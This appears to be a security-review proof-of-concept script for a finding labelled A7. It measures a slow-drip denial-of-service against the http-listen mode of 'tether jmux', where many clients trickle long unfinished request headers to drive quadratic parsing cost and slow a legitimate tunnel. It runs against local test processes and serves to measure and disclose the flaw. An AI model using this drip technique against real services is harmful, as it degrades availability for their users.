"""A7: `tether jmux` http-listen re-parses the whole buffered request head on every read
(guests/jmux/src/main.rs: buf.extend_from_slice; http::parse_request(buf)), so a head dripped in small
pieces costs O(n^2) guest CPU, on the one guest thread that carries every tunnel. K clients each drip an
unfinished head (one long header value, up to L KiB, CHUNK bytes a send) within the 10 s handshake timeout.
Measured: CPU of the http-listen jmux process, and round trips of a legit CONNECT tunnel meanwhile.
usage: jmux_http_drip.py K L CHUNK"""
import sys, time, subprocess, threading
sys.path.insert(0, "/work/rt2")
from jm import *
K, L, CHUNK = int(sys.argv[1]), int(sys.argv[2]), int(sys.argv[3])
echo = target("echo")
pp, hp = free_port(), free_port()
srv = subprocess.Popen([TETHER, "jmux", f"tcp-listen://127.0.0.1:{pp}", "--allow", f"127.0.0.1:{echo}"], stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
so = drain_output(srv); time.sleep(1)
cli = subprocess.Popen([TETHER, "jmux", f"tcp://127.0.0.1:{pp}", f"http-listen://127.0.0.1:{hp}"], stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
co = drain_output(cli)
for _ in range(100):
    try: socket.create_connection(("127.0.0.1", hp), timeout=1).close(); break
    except OSError: time.sleep(0.1)
def tunnel():
    c = socket.create_connection(("127.0.0.1", hp), timeout=10); c.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    c.sendall(f"CONNECT 127.0.0.1:{echo} HTTP/1.1\r\n\r\n".encode()); d = b""
    while b"\r\n\r\n" not in d: d += c.recv(4096)
    return c
def rtt(c):
    t0 = time.time(); c.sendall(b"x"); c.recv(10); return (time.time() - t0) * 1000
sent = [0] * K
def drip(i):
    try:
        s = socket.create_connection(("127.0.0.1", hp), timeout=5); s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        s.sendall(b"GET http://127.0.0.1:1/ HTTP/1.1\r\nX: ")
        chunk = b"a" * CHUNK; t0 = time.time()
        while sent[i] < (L << 10) and time.time() - t0 < 9:
            s.sendall(chunk); sent[i] += CHUNK; time.sleep(0.0005)
        time.sleep(max(0, 9.5 - (time.time() - t0))); s.close()
    except OSError: pass
try:
    c = tunnel(); base = sorted(rtt(c) for _ in range(20)); print(f"tunnel rtt before: p50 {base[10]:.2f} ms max {base[-1]:.2f} ms")
    a0 = status(cli.pid); t0 = time.time()
    ths = [threading.Thread(target=drip, args=(i,), daemon=True) for i in range(K)]
    for t in ths: t.start()
    lat = []
    while any(t.is_alive() for t in ths) and time.time() - t0 < 15:
        try: lat.append(rtt(c))
        except OSError as e: lat.append(99999); break
        time.sleep(0.05)
    a1 = status(cli.pid); lat.sort()
    print(f"{K} drippers x {L} KiB in {CHUNK}-byte sends ({sum(sent)>>10} KiB sent): jmux cpu {a1['cpu_s']-a0['cpu_s']:.2f} s in {time.time()-t0:.1f} s; "
          f"tunnel rtt p50 {lat[len(lat)//2]:.1f} ms p90 {lat[int(len(lat)*.9)]:.1f} ms max {lat[-1]:.1f} ms ({len(lat)} samples); rss {a1['rss_mib']} MiB")
finally:
    kill(cli); kill(srv)
